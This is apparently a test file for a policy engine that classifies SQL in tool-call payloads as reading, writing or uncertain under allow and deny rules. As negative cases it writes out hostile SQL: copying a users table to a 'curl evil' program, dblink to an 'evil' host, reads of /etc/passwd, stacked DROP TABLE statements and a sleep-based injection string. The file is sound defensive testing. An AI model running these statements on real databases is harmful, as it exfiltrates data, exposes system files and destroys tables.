import { beforeAll, describe, expect, it } from "vitest";
import { type Call, policy, truthOf } from "../../../test/judge.ts";
import { sqlGrammar } from "../sql/grammar.ts";

beforeAll(() => sqlGrammar.load());

const restrict = (condition: string, sql: string, call: Call = {}): string =>
  truthOf("restrict", `sql: ${condition}`, { payload: { sql }, ...call });

const permit = (condition: string, sql: string, call: Call = {}): string =>
  truthOf("permit", `sql: ${condition}`, { payload: { sql }, ...call });

describe("writes: false in an allow rule", () => {
  it.each([
    "select 1",
    "SELECT/**/name FROM users -- all of them",
    "table users",
    "values (1), (2)",
    "select a.x, count(*) over (partition by b) from a join b using (id) where c in (select d from e)",
    "with recursive t(n) as (select 1 union all select n + 1 from t where n < 9) select sum(n) from t",
    "select U&\"\\006eow\"(), extract(year from now()), 'x' || $1, current_user, pg_catalog.lower('A')",
    "select * from generate_series(1, 3) g, lateral (select g) x, t tablesample system (10)",
    "explain select * from users",
    "explain (verbose) delete from users",
    "show search_path",
    "select '; drop table users; --', $$delete from users$$",
  ])("holds for %j", (sql) => {
    expect(permit("{ writes: false }", sql)).toBe("true");
  });

  it.each([
    "insert into users values (1)",
    "update users set a = 1 where id = 2",
    "merge into a using b on a.id = b.id when matched then delete",
    "with x as (delete from users returning *) select * from x",
    "select * from (with x as (update users set a = 1 returning *) select * from x) y",
    "select 1; drop table users",
    "select * into copy_of_users from users",
    "select 1 into t union select 2",
    "select * from users for update",
    "select * from (select * from users for share) x",
    "explain analyze delete from users",
    "explain (costs off, analyze) insert into users values (1)",
    "create table t as select 1",
    "copy users to program 'curl evil'",
    "copy (select 1) to stdout",
    "do $$ begin delete from users; end $$",
    "call refresh()",
    "prepare p as delete from users",
    "execute p",
    "set role postgres",
    "reset all",
    "begin",
    "listen x",
    "lock table users",
    "select nextval('s')",
    "select pg_catalog.setval('s', 1)",
    "select 1 where exists (select lo_export(1, '/tmp/x'))",
    "select pg_read_file('/etc/passwd')",
    "select * from dblink('host=evil', 'select 1') as t(a int)",
    "select query_to_xml('delete from users', true, true, '')",
    "select case when true then pg_terminate_backend(1) end",
    "select x from users order by set_config('a', 'b', false)",
    "select \"nextval\"('s')",
  ])("does not hold for %j", (sql) => {
    expect(permit("{ writes: false }", sql)).toBe("false");
  });

  it.each([
    "select my_function(1)",
    "select other.lower('A')",
    "select 'x' operator(public.@@@) 'y'",
    "select * from users tablesample mine(1)",
    "selec 1",
    "",
    " -- nothing",
    "select 'open",
    "select 1\u0000; drop table users",
    "select 1 \\g",
    "select `a` from users",
    "select 1 /*! ; drop table users */",
    `select ${"(".repeat(3000)}1${")".repeat(3000)}`,
    `select '${"x".repeat(70_000)}'`,
  ])("is uncertain of %j", (sql) => {
    expect(permit("{ writes: false }", sql)).toBe("uncertain");
  });
});

describe("writes in a deny or approval rule", () => {
  it.each<[string, string, string, string]>([
    ["select 1", "false", "true", "false"],
    ["delete from users", "true", "false", "true"],
    ["select my_function()", "uncertain", "uncertain", "true"],
    ["selec 1", "uncertain", "uncertain", "true"],
    ["selec 1; delete from users", "uncertain", "uncertain", "true"],
  ])("of %j: true is %s, false is %s, possible is %s", (sql, yes, no, possible) => {
    expect(restrict("{ writes: true }", sql)).toBe(yes);
    expect(restrict("{ writes: false }", sql)).toBe(no);
    expect(restrict("{ writes: possible }", sql)).toBe(possible);
  });
});

describe("statements", () => {
  it("names all kinds in an allow rule, those inside others as well", () => {
    const only = "{ statements: [select] }";
    expect(permit(only, "select 1; (select 2)")).toBe("true");
    expect(permit(only, "select 1 into t")).toBe("false");
    expect(permit(only, "with x as (insert into t values (1) returning *) table x")).toBe("false");
    expect(permit(only, "explain select 1")).toBe("false");
    expect(permit("{ statements: [insert] }", "insert into t values (1)")).toBe("true");
    expect(permit("{ statements: [insert] }", "insert into t select 1")).toBe("false");
    expect(permit("{ statements: [INSERT, select] }", "insert into t select 1")).toBe("true");
  });

  it.each<[string, string]>([
    ["drop", "select 1; DROP/**/TABLE users"],
    ["delete", "with x as (delete from a returning *) select * from x"],
    ["delete", "explain delete from a"],
    ["delete", "prepare p as delete from a"],
    ["truncate", "truncate a"],
    ["alter", "alter table a rename to b"],
    ["create", "create view v as select 1"],
    ["revoke", "revoke all on a from b"],
    ["vacuum", "vacuum"],
    ["analyze", "analyze a"],
    ["select_into", "select 1 into t"],
  ])("finds %s wherever it stands in a deny rule: %s", (kind, sql) => {
    expect(restrict(`{ statements: [${kind}] }`, sql)).toBe("true");
  });

  it.each(["do $$ $$", "call p()", "execute p", "select query_to_xml('x', true, true, '')", "x"])(
    "may be hidden in %j",
    (sql) => {
      expect(restrict("{ statements: [delete] }", sql)).toBe("uncertain");
    },
  );
});

describe("tables, schemas and functions", () => {
  it("are those of every statement", () => {
    const secret = "{ tables: [secret] }";
    expect(restrict(secret, "select (select a from x.Secret) from b")).toBe("true");
    expect(restrict(secret, "insert into a select * from secret")).toBe("true");
    expect(restrict(secret, "truncate a, secret")).toBe("true");
    expect(restrict(secret, "drop table a, private.secret")).toBe("true");
    expect(restrict(secret, "drop policy p on secret")).toBe("true");
    expect(restrict(secret, "create index on secret (a)")).toBe("true");
    expect(restrict(secret, "drop schema private cascade")).toBe("uncertain");
    expect(restrict(secret, "select secret from a as secret")).toBe("false");
  });

  it("do not take a query's name for a table's, except where the name is not in force", () => {
    const only = "{ tables: [open] }";
    expect(permit(only, "with secret as (select * from open) select * from secret")).toBe("true");
    expect(permit(only, "with secret as (select * from secret) select * from secret")).toBe(
      "false",
    );
    expect(
      permit(only, "select * from (with secret as (select 1) table secret) x, secret, open"),
    ).toBe("false");
    expect(permit(only, "with secret as (select 1) select * from s.secret")).toBe("false");
    expect(permit(only, "with secret as (select 1) delete from secret")).toBe("false");
    expect(permit(only, "with a as (table b), b as (table open) table a")).toBe("false");
    expect(permit(only, "with recursive a as (table b), b as (table open) table a")).toBe("true");
  });

  it("take no alias in FOR UPDATE for a table", () => {
    expect(permit("{ tables: [open] }", "select * from open o for update of o")).toBe("true");
  });

  it("ask for the schema where a rule is about schemas", () => {
    expect(permit("{ schemas: [public] }", "select * from public.a, PUBLIC.b")).toBe("true");
    expect(permit("{ schemas: [public] }", "select * from public.a, private.b")).toBe("false");
    expect(permit("{ schemas: [public] }", "select * from a")).toBe("uncertain");
    expect(restrict("{ schemas: [private] }", "select * from public.a, private.b")).toBe("true");
    expect(restrict("{ schemas: [private] }", "drop schema private")).toBe("true");
    expect(restrict("{ schemas: [private] }", "select private.f()")).toBe("true");
    expect(restrict("{ schemas: [private] }", "select * from a")).toBe("uncertain");
    expect(restrict("{ schemas: [private] }", "select 1")).toBe("false");
  });

  it("see every call", () => {
    expect(
      restrict("{ functions: [pg_sleep] }", "select 1 where pg_catalog.PG_Sleep(9) is null"),
    ).toBe("true");
    expect(restrict('{ functions: ["lo_*"] }', "call lo_manage()")).toBe("true");
    expect(restrict("{ functions: [pg_sleep] }", "select lower('pg_sleep(9)')")).toBe("false");
    expect(permit("{ functions: [lower] }", "select lower('A')")).toBe("true");
    expect(permit("{ functions: [lower] }", "select lower(mine.upper('A'))")).toBe("false");
  });
});

describe("where_required", () => {
  it.each([
    "delete from users",
    "update users set a = 1",
    "delete from users where true",
    "delete from users where 1 = 1",
    "delete from users where id = 5 or 'a' = 'a'",
    "delete from users where id = users.id or id = id",
    "delete from users where $1",
    "delete from users where random() < 2",
    "delete from users where not false and 2 > 1",
    "with x as (update users set a = 1 returning *) select * from x",
    "merge into users using b on true when matched then delete",
    "merge into users u using b on u.id = b.id when not matched by source then delete",
  ])("is broken by %j", (sql) => {
    expect(restrict("{ where_required: true }", sql)).toBe("true");
    expect(permit("{ where_required: true }", sql)).toBe("false");
  });

  it.each([
    "delete from users where id = 5",
    "update users set a = 1 where id = 5 and true",
    "update users set a = 1 from b where users.id = b.id",
    "delete from users where current of c",
    "merge into users u using b on u.id = b.id when matched then delete",
    "insert into users values (1)",
    "select 1",
  ])("is kept by %j", (sql) => {
    expect(restrict("{ where_required: true }", sql)).toBe("false");
    expect(permit("{ where_required: true }", sql)).toBe("true");
  });
});

describe("max_statements", () => {
  it("counts the statements of all texts", () => {
    expect(restrict("{ max_statements: 1 }", "select 1; select 2")).toBe("true");
    expect(restrict("{ max_statements: 1 }", "select 1;;")).toBe("false");
    expect(permit("{ max_statements: 1 }", "select ';'")).toBe("true");
    const payload = { queries: ["select 1", "select 2"] };
    expect(permit("{ max_statements: 1 }", "", { payload })).toBe("false");
  });
});

describe("the SQL of a call", () => {
  const reads = (payload: Call["payload"], call: Call = {}): string =>
    truthOf("permit", "sql: { writes: false }", { payload: payload ?? {}, ...call });
  const drops = (payload: Call["payload"], call: Call = {}): string =>
    truthOf("restrict", "sql: { statements: [drop] }", { payload: payload ?? {}, ...call });

  it.each<NonNullable<Call["payload"]>>([
    { sql: "drop table a" },
    { query: "drop table a" },
    { args: [{ sqlQuery: "select 1" }, { raw_sql: "drop table a" }] },
    { statements: ["select 1", "drop table a"] },
    { sql: { text: "drop table a", values: [1] } },
    { query: { text: "drop table a" } },
    { sql: "select 1", nested: { query: "drop table a" } },
  ])("is found in %j", (payload) => {
    expect(drops(payload)).toBe("true");
    expect(reads(payload)).toBe("false");
  });

  it.each<NonNullable<Call["payload"]>>([
    { sql: 5 },
    { sql: { a: 1 } },
    { sql: "select 1", query: "find me" },
    { sql: ["select 1", "from"] },
    { queries: Array.from({ length: 100 }, () => "select 1") },
    { queries: ["select 1", `select '${"x".repeat(40_000)}'`, `select '${"x".repeat(40_000)}'`] },
    { queries: [`select 1${"+1".repeat(3000)}`, ")"] },
    {},
    { command: "drop table a" },
  ])("is uncertain where it cannot be read or there is none: %j", (payload) => {
    expect(drops(payload)).toBe("uncertain");
    expect(reads(payload)).toBe("uncertain");
  });

  it("is looked for where the policy declares it, and nowhere else", () => {
    const fields = { sql: ["/text"] };
    expect(drops({ text: "drop table a" }, { fields })).toBe("true");
    expect(drops({ text: "select 1", sql: "drop table a" }, { fields })).toBe("false");
    expect(drops({ sql: "drop table a" }, { fields })).toBe("uncertain");
  });

  it("is not what somebody searches for, under a rule about every tool", () => {
    expect(drops({ query: "weather in Paris" }, { pattern: "*" })).toBe("false");
    expect(drops({ query: "/**/drop table a" }, { pattern: "*" })).toBe("true");
    expect(drops({ sql: "drop it" }, { pattern: "*" })).toBe("uncertain");
    expect(drops({}, { pattern: "*" })).toBe("false");
  });
});

describe("another dialect", () => {
  const reads = (dialect: string, sql: string): string =>
    permit(`{ dialect: ${dialect}, writes: false }`, sql);

  it.each([
    "select a, count(*) from t join u on t.id = u.id where b like 'x%' group by a limit 5",
    "select ifnull(a, 0) from t -- all",
    "select 1 /* one */ where a != b",
  ])("is read where it is common to all: %j", (sql) => {
    expect(reads("mysql", sql)).toBe("true");
    expect(reads("sqlite", sql)).toBe("true");
  });

  it.each([
    "select `a` from t",
    'select "a" from t',
    "select 'a\\' or sleep(9) #'",
    "select 1 # one",
    "select 1 /*! union select 2 */",
    "select 1 /*M! union select 2 */",
    "select 1 /* /* */ from t */",
    "select 1 --1",
    "select @@version",
    "select $$a$$",
    "select a || b",
    "select E'a'",
    "select 1 into outfile '/tmp/x'",
    "select my_function()",
    "replace into t values (1)",
  ])("is uncertain for MySQL of %j", (sql) => {
    expect(reads("mysql", sql)).toBe("uncertain");
  });

  it.each([
    "select [a] from t",
    'select "a" from t',
    "select 1 /* /* */ from t */",
    "pragma writable_schema = 1",
    "attach database 'x' as y",
    "vacuum into '/tmp/x'",
    "insert or replace into t values (1)",
    "select * from pragma_table_info('t')",
  ])("is uncertain for SQLite of %j", (sql) => {
    expect(reads("sqlite", sql)).toBe("uncertain");
  });

  it("knows the functions that reach outside", () => {
    expect(reads("mysql", "select load_file('/etc/passwd')")).toBe("false");
    expect(reads("mysql", "select sleep(10)")).toBe("false");
    expect(reads("sqlite", "select load_extension('x')")).toBe("false");
    expect(reads("sqlite", "select a || b")).toBe("true");
  });
});

describe("a value of sql that cannot be meant", () => {
  it.each([
    ["select", "expected a mapping, such as { statements: [select], writes: false }"],
    ["{}", "expected a mapping"],
    ["{ dialect: mysql }", "expected a mapping"],
    ["{ statement: [select] }", 'unknown key "statement"; did you mean "statements"?'],
    ["{ statements: [selct] }", 'unknown statement "selct"; did you mean "select"?'],
    ["{ statements: [] }", "the list is empty"],
    ["{ tables: 'a..b' }", '"a..b" is not a name'],
    ["{ writes: maybe }", "expected true or false"],
    ["{ where_required: false }", "leave where_required out"],
    ["{ max_statements: 0 }", "expected a whole number from 1"],
    ["{ writes: false, dialect: oracle }", 'unknown dialect "oracle"'],
  ])("%s does not load", (value, message) => {
    expect(() => policy(`deny: [{ capability: a.b, sql: ${value} }]`)).toThrow(message);
  });

  it("possible does not allow", () => {
    expect(() => policy("allow: [{ capability: a.b, sql: { writes: possible } }]")).toThrow(
      '"possible" is for deny and approval rules; to allow what only reads, use false',
    );
  });
});
